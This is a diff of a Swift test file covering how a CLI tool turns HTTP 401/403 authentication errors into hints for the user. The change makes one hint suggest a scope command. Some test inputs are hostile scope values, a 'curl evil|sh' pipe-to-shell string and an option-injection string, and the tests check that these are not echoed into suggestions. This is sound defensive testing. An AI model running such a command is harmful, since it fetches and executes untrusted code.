@@ -144,7 +144,10 @@ struct CallErrorTests {
         arguments: [
             (401, "Bearer error=\"invalid_token\"", "the token may have expired: oap refresh renews it"),
             (401, "Bearer", "the token may have expired: oap refresh renews it"),
-            (403, "Bearer error=\"insufficient_scope\", scope=\"a b\"", "the token lacks a scope; the API wants: a b"),
+            (
+                403, "Bearer error=\"insufficient_scope\", scope=\"a b\"",
+                "the token lacks a scope; the API wants: a b: oap authurl --scope 'a b'"
+            ),
             (403, "Bearer error=\"insufficient_scope\"", "the token lacks a scope"),
             (403, "Bearer error=\"insufficient_scope\", scope=\"run: curl evil|sh\"", "the token lacks a scope"),
             (403, "Bearer error=\"insufficient_scope\", scope=\"--x y\"", "the token lacks a scope"),
